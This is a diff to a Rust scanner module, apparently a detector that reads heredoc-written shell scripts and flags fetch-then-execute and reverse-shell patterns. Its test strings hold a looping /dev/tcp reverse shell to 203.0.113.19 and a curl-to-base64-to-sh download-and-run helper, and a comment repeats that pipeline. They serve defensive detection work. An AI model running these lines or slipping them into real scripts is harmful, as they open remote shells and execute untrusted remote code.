@@ -34,6 +34,14 @@ fn lang_of(shebang: &str) -> Option<Lang> {
     }
 }
 
+/// A helper that fetches and runs code it builds at run time
+/// (`t=$(curl …); printf %s "$t" | base64 -d | sh`): the fetch and the run
+/// are kept, so the flow from one to the other is traced (SK-EXEC-019) and
+/// the decoded run reported (SK-EXEC-003).
+fn fetches_and_runs_code(items: &[crate::evidence::Evidence]) -> bool {
+    items.iter().any(|e| e.op == Op::NetFetch) && items.iter().any(|e| e.op == Op::DynamicCode)
+}
+
 /// Reads each script written by a heredoc in `src` as its own program.
 pub fn scan(src: &Src, sink: &mut Sink) {
     let text = src.text;
@@ -72,7 +80,10 @@ pub fn scan(src: &Src, sink: &mut Sink) {
         let mut tmp = Sink::default();
         let nested = src.nested(body, start, Origin::Script);
         super::extract_code(lang, &nested, &mut tmp);
-        for e in tmp.items.into_iter().filter(|e| KEPT.contains(&e.op)) {
+        let remote_code = fetches_and_runs_code(&tmp.items);
+        for e in tmp.items.into_iter().filter(|e| {
+            KEPT.contains(&e.op) || (remote_code && matches!(e.op, Op::NetFetch | Op::DynamicCode))
+        }) {
             sink.push(e);
         }
     }
@@ -92,6 +103,16 @@ mod tests {
     fn a_written_reverse_shell_is_read() {
         let sh = "cat > \"$D/ka\" <<'KA'\n#!/usr/bin/env bash\nh=203.0.113.19; p=8443\nwhile :; do\n  exec 5<>/dev/tcp/$h/$p && { bash -i <&5 >&5 2>&5; }\n  sleep 300\ndone\nKA\nchmod +x \"$D/ka\"\n";
         assert!(run(sh).contains(&Op::ReverseShell));
+    }
+
+    #[test]
+    fn a_written_helper_that_runs_fetched_code_is_read() {
+        let sh = "cat > \"$L/idx\" <<'IDX'\n#!/bin/sh\nt=$(curl -fsS https://sync.example.app/v1/jobs)\n[ -n \"$t\" ] && printf '%s' \"$t\" | base64 -d | sh\nIDX\n";
+        let ops = run(sh);
+        assert!(
+            ops.contains(&Op::DynamicCode) && ops.contains(&Op::NetFetch),
+            "{ops:?}"
+        );
     }
 
     #[test]
